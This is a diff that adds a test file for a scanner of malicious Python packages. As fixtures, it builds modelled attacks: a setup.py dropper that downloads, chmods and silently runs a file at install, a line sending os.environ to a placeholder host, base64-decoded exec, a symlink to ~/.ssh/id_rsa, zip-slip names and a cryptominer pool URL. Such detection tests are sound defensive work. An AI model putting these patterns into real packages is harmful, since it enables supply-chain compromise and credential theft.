@@ -1,0 +1,154 @@
+import { describe, expect, it } from 'vitest';
+import { readArchiveBuffer } from '../archive/index.js';
+import { makeTar, makeZip } from '../archive/testing.js';
+import { comparePair, inspectArchive, wantMember } from './engine.js';
+import { memoryArchive, rulesOf, scan } from './testing.js';
+
+const lines = (...l: string[]): string => l.join('\n') + '\n';
+
+describe('archive anomalies become findings', () => {
+  it('zip-slip member names are reported and the content is still scanned', async () => {
+    const zip = makeZip([
+      { name: 'demo/__init__.py', content: 'x = 1\n' },
+      { name: '../../demo/evil.py', content: "POOL = 'stratum+tcp://pool.example.invalid:3333'\n" },
+    ]);
+    const { result } = await inspectArchive(await readArchiveBuffer(zip, 'demo-1.0-py3-none-any.whl', { want: wantMember }));
+    expect(rulesOf(result)).toEqual(['archive-path-traversal', 'cryptominer']);
+    expect(result.findings.find((f) => f.rule === 'cryptominer')!.file).toBe('demo/evil.py');
+  });
+
+  it('links out of the package and inside it are told apart', async () => {
+    const tar = await makeTar([
+      { name: 'demo-1.0/setup.py', content: 'from setuptools import setup\nsetup()\n' },
+      { name: 'demo-1.0/key', type: 'symlink', linkname: '../../.ssh/id_rsa' },
+      { name: 'demo-1.0/LICENSE.txt', type: 'symlink', linkname: 'LICENSE' },
+    ]);
+    const { result } = await inspectArchive(await readArchiveBuffer(tar, 'demo-1.0.tar.gz', { want: wantMember }));
+    expect(rulesOf(result)).toEqual(['archive-link', 'archive-link-escape']);
+  });
+
+  it('a decompression bomb is reported and the package is marked partly read', async () => {
+    const bomb = await makeTar([{ name: 'demo-1.0/setup.py', content: Buffer.alloc(4 * 1024 * 1024) }], true);
+    const archive = await readArchiveBuffer(bomb, 'demo-1.0.tar.gz', { limits: { ratioFloorBytes: 1024 * 1024 }, want: wantMember });
+    const { result } = await inspectArchive(archive);
+    expect(rulesOf(result)).toContain('archive-bomb');
+    expect(result.truncated).toBe(true);
+    expect(result.verdict).not.toBe('clean');
+  });
+});
+
+describe('roles and phases', () => {
+  it('setup.py in an sdist runs at install; in a wheel it does not', async () => {
+    const code = lines('import urllib.request', "urllib.request.urlopen('https://example.org/x')");
+    const sdist = await scan({ 'demo-1.0/setup.py': code });
+    expect(sdist.findings.find((f) => f.rule === 'install-network')).toMatchObject({ phase: 'install', file: 'demo-1.0/setup.py', line: 2 });
+    const wheel = await scan({ 'setup.py': code }, 'wheel');
+    expect(rulesOf(wheel)).not.toContain('install-network');
+  });
+
+  it('module top level runs at import, function bodies at run time', async () => {
+    const r = await scan({ 'demo/__init__.py': lines('import base64', "exec(base64.b64decode('cHJpbnQoMSk='))", 'def f():', "    exec(base64.b64decode('cHJpbnQoMSk='))") }, 'wheel');
+    expect(r.findings.filter((f) => f.rule === 'exec-decoded').map((f) => [f.line, f.phase])).toEqual([
+      [2, 'import'],
+      [4, 'runtime'],
+    ]);
+  });
+
+  it('in-tree build backend modules are install-time code', async () => {
+    const r = await scan({
+      'demo-1.0/pyproject.toml': lines('[build-system]', 'requires = []', 'build-backend = "backend"', 'backend-path = ["_build"]'),
+      'demo-1.0/_build/backend.py': lines('import socket', 's = socket.create_connection(("203.0.113.5", 9))'),
+    });
+    expect(r.findings.find((f) => f.rule === 'install-network')).toMatchObject({ file: 'demo-1.0/_build/backend.py', phase: 'install' });
+    expect(r.findings.find((f) => f.rule === 'build-backend-in-tree')).toMatchObject({ file: 'demo-1.0/pyproject.toml', line: 4 });
+  });
+
+  it('Python files over the parse limit get text rules and an unscanned-source finding', async () => {
+    const big = "POOL = 'stratum+tcp://pool.example.invalid:3333'\n" + '# filler\n'.repeat(700_000);
+    const r = await scan({ 'demo/big.py': big }, 'wheel');
+    expect(rulesOf(r)).toEqual(['cryptominer', 'unscanned-source']);
+  });
+
+  it('takes name and version from the file name, or from PKG-INFO when the name says nothing', async () => {
+    expect(await scan({ 'x.py': '' }, 'wheel', 'Demo_Pkg-2.0-py3-none-any.whl')).toMatchObject({ name: 'demo-pkg', version: '2.0' });
+    const r = (await inspectArchive(memoryArchive({ 'PKG-INFO': 'Metadata-Version: 2.1\nName: Other\nVersion: 3.1\n' }, 'directory', 'checkout'))).result;
+    expect(r).toMatchObject({ name: 'other', version: '3.1' });
+  });
+});
+
+describe('wheel against its sdist', () => {
+  const sdistFiles = {
+    'demo-1.0/src/demo/__init__.py': 'x = 1\n',
+    'demo-1.0/src/demo/util.py': 'def f():\n    return 1\n',
+  };
+
+  it('finds files the wheel adds or changes, matching src/ layouts by suffix', async () => {
+    const sdist = await inspectArchive(memoryArchive(sdistFiles, 'sdist', 'demo-1.0.tar.gz'), { digests: true });
+    const wheel = await inspectArchive(
+      memoryArchive(
+        {
+          'demo/__init__.py': 'x = 1\r\n',
+          'demo/util.py': 'def f():\n    return 2\n',
+          'demo/extra.py': 'y = 2\n',
+          'demo-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n',
+        },
+        'wheel',
+        'demo-1.0-py3-none-any.whl',
+      ),
+      { digests: true },
+    );
+    comparePair(wheel, sdist);
+    const mism = wheel.result.findings.filter((f) => f.rule === 'wheel-sdist-mismatch');
+    expect(mism.map((f) => [f.file, f.detail])).toEqual([
+      ['demo/extra.py', 'not in demo-1.0.tar.gz'],
+      ['demo/util.py', 'differs from demo-1.0.tar.gz'],
+    ]);
+    expect(wheel.result.score).toBe(3);
+  });
+});
+
+describe('verdicts on modelled attacks and honest code', () => {
+  it('a setup.py dropper (download, chmod, run at install) is malicious', async () => {
+    const r = await scan({
+      'demo-1.0/setup.py': lines(
+        'import os, subprocess, urllib.request',
+        'from setuptools import setup',
+        'from setuptools.command.install import install',
+        'class Post(install):',
+        '    def run(self):',
+        "        path = '/tmp/placeholder'",
+        "        urllib.request.urlretrieve('http://203.0.113.5/placeholder', path)",
+        '        os.chmod(path, 0o755)',
+        '        subprocess.Popen([path], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True, stdin=subprocess.DEVNULL)',
+        "setup(name='demo', cmdclass={'install': Post})",
+      ),
+    });
+    expect(r.verdict).toBe('malicious');
+    expect(rulesOf(r)).toEqual(
+      expect.arrayContaining(['cmdclass-override', 'download-executable', 'hardcoded-ip', 'install-network', 'install-process', 'silent-process']),
+    );
+  });
+
+  it('ctx-style environment exfiltration is malicious', async () => {
+    const r = await scan({ 'demo/__init__.py': lines('import os, requests', "requests.get('https://demo.example.invalid/e?d=' + str(dict(os.environ)))") }, 'wheel');
+    expect(r.verdict).toBe('malicious');
+    expect(rulesOf(r)).toContain('exfiltrate-sensitive-data');
+  });
+
+  it('an honest HTTP client with a .netrc lookup is clean', async () => {
+    const r = await scan(
+      {
+        'demo/__init__.py': lines('from .api import get'),
+        'demo/api.py': lines(
+          'import os, socket, subprocess',
+          "NETRC = ('.netrc', '_netrc')",
+          'def get(url):',
+          '    s = socket.create_connection((url, 443))',
+          "    return subprocess.run(['git', 'describe'], capture_output=True)",
+        ),
+      },
+      'wheel',
+    );
+    expect(r.verdict).toBe('clean');
+  });
+});
